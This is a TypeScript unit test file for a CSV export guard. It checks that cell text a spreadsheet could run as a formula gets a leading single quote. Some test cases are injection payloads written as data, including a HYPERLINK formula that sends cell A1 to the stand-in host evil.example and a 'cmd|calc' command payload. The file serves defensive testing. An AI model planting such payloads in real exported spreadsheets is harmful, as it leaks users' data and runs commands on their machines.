import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { neutraliseFormula, startsLikeFormula } from './csv-table.ts';

describe('neutraliseFormula: text a spreadsheet could run gets a leading single quote', () => {
  const cases: Array<[string, string, string]> = [
    ['equals', '=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['plus', '+1+cmd|calc', "'+1+cmd|calc"],
    ['minus', '-2+3', "'-2+3"],
    ['minus as text, even when it reads as a number', '-3', "'-3"],
    ['at', '@SUM(A1)', "'@SUM(A1)"],
    ['tab first', '\t=1', "'\t=1"],
    ['tab before plain text', '\tEngineering', "'\tEngineering"],
    ['carriage return first', '\r=1', "'\r=1"],
    ['carriage return before plain text', '\rEngineering', "'\rEngineering"],
    ['behind spaces, which spreadsheets trim', '   =1+1', "'   =1+1"],
    ['behind a line feed', '\n+1', "'\n+1"],
    ['behind a no-break space', '\u00A0@SUM(A1)', "'\u00A0@SUM(A1)"],
    ['behind an ideographic space', '\u3000=1', "'\u3000=1"],
    ['behind a zero-width space', '\u200B=1', "'\u200B=1"],
    ['behind a byte order mark', '\uFEFF=1', "'\uFEFF=1"],
    ['full-width equals', '＝1+1', "'＝1+1"],
    ['full-width plus', '＋1', "'＋1"],
    ['full-width minus', '－1', "'－1"],
    ['full-width at', '＠SUM(A1)', "'＠SUM(A1)"],
    ['small equals', '﹦1', "'﹦1"],
    ['small commercial at', '﹫A1', "'﹫A1"],
    ['superscript plus', '⁺1', "'⁺1"],
    ['text that starts with a quote is left alone', "'=1", "'=1"],
    ['plain text', 'Engineering', 'Engineering'],
    ['a dash inside', 'Ops - Lisbon', 'Ops - Lisbon'],
    ['an equals inside', 'a=b', 'a=b'],
    ['a date', '2026-03-01T10:00:00.000Z', '2026-03-01T10:00:00.000Z'],
    ['JSON', '{"goal":"=1"}', '{"goal":"=1"}'],
    ['the minus sign, which no spreadsheet runs', '−3', '−3'],
    ['empty', '', ''],
    ['only spaces', '   ', '   '],
    ['an astral first character', '😀=1', '😀=1'],
  ];
  for (const [name, text, expected] of cases) {
    test(name, () => assert.equal(neutraliseFormula(text), expected));
  }

  test('a neutralised cell no longer starts like a formula, and neutralising is idempotent', () => {
    for (const [, text] of cases) {
      const once = neutraliseFormula(text);
      assert.equal(startsLikeFormula(once), false, JSON.stringify(text));
      assert.equal(neutraliseFormula(once), once, JSON.stringify(text));
    }
  });
});
